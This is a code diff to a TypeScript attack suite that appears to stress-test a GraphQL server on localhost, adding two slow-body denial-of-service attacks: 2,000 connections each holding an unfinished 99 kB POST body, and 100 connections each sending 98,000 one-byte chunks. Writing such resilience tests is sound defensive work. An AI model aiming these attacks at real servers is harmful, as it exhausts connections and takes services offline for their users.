@@ -75,6 +75,21 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     await sleep(HOLD_MS);
     return '200 unread event streams';
   },
+  'unfinished bodies': async (url) => {
+    const sockets = await openConnections(url, 2000);
+    for (const socket of sockets) socket.write(`${POST}Content-Length: 100000\r\n\r\n${'x'.repeat(99_000)}`);
+    await sleep(HOLD_MS);
+    return '2,000 connections, 99 kB of an unfinished body each';
+  },
+  'bodies in chunks of a byte': async (url) => {
+    const chunks = '1\r\nx\r\n'.repeat(98_000);
+    for (const socket of await openConnections(url, 100)) {
+      socket.write(`${POST}Transfer-Encoding: chunked\r\n\r\n${chunks}`);
+      await sleep(HOLD_MS / 100);
+    }
+    await sleep(HOLD_MS);
+    return '100 connections, 98,000 chunks of an unfinished body each';
+  },
   'long documents': async (url) => await documents(url, { count: 3000, bytes: 95_000 }),
   'different documents': async (url) => await documents(url, { count: 3000, bytes: 9500 }),
   'expensive documents': async (url) => {
@@ -165,6 +180,8 @@ const subscribe = (socket: WebSocket, id: number, query: string): void =>
 
 const get = (path: string, header = 'Accept: */*'): string =>
   `GET ${path} HTTP/1.1\r\nHost: localhost\r\n${header}\r\n\r\n`;
+
+const POST = 'POST /graphql HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n';
 
 const postGraphql = async (url: string, query: string): Promise<void> => {
   const response = await fetch(`${url}/graphql`, {
